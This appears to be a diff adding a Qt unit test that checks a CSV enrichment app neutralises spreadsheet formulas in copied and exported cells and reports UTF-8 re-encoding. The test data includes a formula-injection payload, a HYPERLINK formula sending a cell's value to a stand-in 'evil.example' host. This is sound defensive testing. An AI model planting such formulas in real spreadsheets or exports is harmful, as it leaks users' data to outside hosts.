@@ -1,5 +1,6 @@
 #include "testfiles.h"
 #include "xlsxreader.h"
+#include "appsettings.h"
 #include "csvfile.h"
 #include "csvtablemodel.h"
 #include "enrichmentjob.h"
@@ -10,6 +11,7 @@
 #include <QApplication>
 #include <QClipboard>
 #include <QHeaderView>
+#include <QJsonObject>
 #include <QLineEdit>
 #include <QTableWidget>
 #include <QComboBox>
@@ -44,6 +46,7 @@ private Q_SLOTS:
     void enrichShowsColumnsFailuresAndExports();
     void cancelAndEnrichAgain();
     void sortFilterAndCopy();
+    void formulasNeutralisedAndEncodingNoticeShown();
     void geometryAndColumnWidthsAreRemembered();
     void everyActionHasAMnemonicAndAShortcut();
 
@@ -378,6 +381,63 @@ void MainWindowTest::sortFilterAndCopy()
     QCOMPARE(QGuiApplication::clipboard()->text(),
              model->index(0, 0).data().toString() + u'\t' + model->index(0, 1).data(Qt::EditRole).toString() + u'\n'
                  + model->index(1, 0).data().toString() + u'\t' + model->index(1, 1).data(Qt::EditRole).toString() + u'\n');
+}
+
+void MainWindowTest::formulasNeutralisedAndEncodingNoticeShown()
+{
+    FakeGleif fake;
+    QVERIFY(fake.listen());
+    auto setName = [&](const QString &lei, const QString &name) {
+        QJsonObject record = fake.record(lei), attributes = record[u"attributes"].toObject(),
+                    entity = attributes[u"entity"].toObject();
+        entity[u"legalName"] = QJsonObject{{QStringLiteral("name"), name}};
+        attributes[u"entity"] = entity;
+        record[u"attributes"] = attributes;
+        fake.addRecord(record);
+    };
+    const QString evil = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A2)");
+    setName(QStringLiteral("XKZZ2JZF41MRHTR1V493"), evil);
+    setName(QStringLiteral("851WYGNLUQLFZBSYGB56"), QStringLiteral("Sp\u00f3\u0142ka"));
+    // Windows-1252 (\xf6 is not UTF-8); the second legal name does not fit it.
+    const QString path = write("n\xf6te,notional,rate,lei\n=1+2,763000,0.0070956,XKZZ2JZF41MRHTR1V493\nx,1,1,851WYGNLUQLFZBSYGB56\n",
+                               QStringLiteral("formulas.csv"));
+    MainWindow w;
+    w.show();
+    w.setEnrichmentSettings(fakeSettings(fake, m_dir.filePath(QStringLiteral("formulas.sqlite"))));
+    QSignalSpy ready(&w, &MainWindow::fileReady);
+    QVERIFY(w.openFile(path));
+    QVERIFY(ready.wait(5000));
+    QSignalSpy finished(&w, &MainWindow::enrichmentFinished);
+    QVERIFY(w.enrich());
+    QVERIFY(finished.wait(10000));
+    QAbstractItemModel *model = w.tableView()->model();
+    QCOMPARE(model->index(0, 4).data().toString(), evil); // shown as it is
+
+    auto copyRow = [&] {
+        w.tableView()->clearSelection();
+        w.tableView()->selectionModel()->select(QItemSelection(model->index(0, 0), model->index(0, 8)), QItemSelectionModel::Select);
+        w.copySelection();
+        return QGuiApplication::clipboard()->text();
+    };
+    // GLEIF's text gets its ', the cost does not, the file's own cells only with the setting.
+    QCOMPARE(copyRow(), QStringLiteral("=1+2\t763000\t0.0070956\tXKZZ2JZF41MRHTR1V493\t'") + evil
+                            + QStringLiteral("\tSBILGB2LXXX\tGB\t-757586.0572\tok\n"));
+    AppSettings settings = w.settings();
+    QVERIFY(!settings.neutraliseFormulas); // off by default
+    settings.neutraliseFormulas = true;
+    w.setSettings(settings);
+    QVERIFY(copyRow().startsWith(QStringLiteral("'=1+2\t763000\t")));
+
+    // The export does the same, and says that the file went out in UTF-8.
+    const QString csv = m_dir.filePath(QStringLiteral("formulas.out.csv"));
+    QVERIFY(w.exportTo(csv));
+    const QByteArray bytes = readTestFile(csv);
+    QVERIFY2(bytes.startsWith("\xEF\xBB\xBFn\xC3\xB6te,"), bytes.constData());
+    QVERIFY(bytes.contains("\n'=1+2,763000,0.0070956,XKZZ2JZF41MRHTR1V493,\"'=HYPERLINK("));
+    QVERIFY(bytes.contains(",Sp\xC3\xB3\xC5\x82ka,"));
+    QVERIFY2(w.statusBar()->currentMessage().contains(QStringLiteral("UTF-8")), qPrintable(w.statusBar()->currentMessage()));
+    settings.neutraliseFormulas = false;
+    w.setSettings(settings);
 }
 
 void MainWindowTest::geometryAndColumnWidthsAreRemembered()
